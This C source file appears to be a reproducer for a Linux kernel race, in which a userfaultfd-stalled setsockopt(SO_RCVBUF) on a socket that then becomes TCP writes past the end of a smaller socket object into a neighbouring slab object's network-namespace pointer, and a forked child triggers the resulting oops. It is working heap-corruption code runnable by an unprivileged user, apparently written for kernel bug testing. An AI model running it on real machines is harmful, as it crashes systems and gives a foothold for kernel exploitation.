// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/*
 * late_rcvbuf [--tcp]: as any user, on a kernel whose proto_ops has set_rcvbuf (7.2).
 *
 * setsockopt(SO_RCVBUF) has read sock->sk and waits (for its page here; for the socket lock is enough).  The descriptor
 * becomes TCP's.  Then __sock_set_rcvbuf() calls sk->sk_socket->ops->set_rcvbuf, now tcp_set_rcvbuf(), with the old
 * sk: it writes tcp_sk(sk)->window_clamp, which is behind the end of struct sovia_sock: in the next socket of the slab,
 * the upper half of the pointer to its network namespace.
 *
 * The kernel oopses when that pointer is used (SO_NETNS_COOKIE of the sockets around, in a child): run it in a VM.
 * 0: nothing; 1: the child was killed by the oops; 77: no userfaultfd.
 */
#include <pthread.h>
#include <sys/wait.h>
#include "slow_page.h"

#ifndef SO_NETNS_COOKIE
#define SO_NETNS_COOKIE 71
#endif
#define VICTIMS	32
#define AROUND	512

static int victims[VICTIMS];

static void *begin(void *i)
{
	setsockopt(victims[(uintptr_t)i], SOL_SOCKET, SO_RCVBUF, slow, sizeof(int));
	return NULL;
}

int main(int argc, char **argv)
{
	pthread_t late[VICTIMS];
	static int around[AROUND];
	struct sockaddr_in at;
	unsigned long long cookie;
	int i, status, proto, tcps = 0;
	socklen_t len;
	pid_t child;

	arguments(argc, argv);
	slow_make();
	listening(IPPROTO_TCP, &at, VICTIMS + 16);
	/* Victims among others, as the free list is random. */
	for (i = 0; i < AROUND; i++) {
		around[i] = open_socket(protocol, 0);
		if (i % (AROUND / VICTIMS) == AROUND / VICTIMS / 2)
			victims[i / (AROUND / VICTIMS)] = open_socket(protocol, 0);
	}
	for (i = 0; i < VICTIMS; i++)
		pthread_create(&late[i], NULL, begin, (void *)(uintptr_t)i);
	sleep(1);
	for (i = 0; i < VICTIMS; i++) {
		if (connect(victims[i], (void *)&at, sizeof(at)))
			err(MISSING, "connect");
		len = sizeof(proto);
		tcps += !getsockopt(victims[i], SOL_SOCKET, SO_PROTOCOL, &proto, &len) && proto == IPPROTO_TCP;
	}
	slow_release();
	for (i = 0; i < VICTIMS; i++)
		pthread_join(late[i], NULL);
	printf("%d of %d have become TCP's\n", tcps, VICTIMS);
	fflush(stdout);
	child = fork();
	if (!child) {
		for (i = 0; i < AROUND; i++) {
			len = sizeof(cookie);
			getsockopt(around[i], SOL_SOCKET, SO_NETNS_COOKIE, &cookie, &len);
		}
		_exit(0);
	}
	waitpid(child, &status, 0);
	if (WIFSIGNALED(status)) {
		printf("the child was killed: signal %d\n", WTERMSIG(status));
		fflush(stdout);
		/* Not exit(): closing them would be the next. */
		_exit(1);
	}
	return !!status;
}
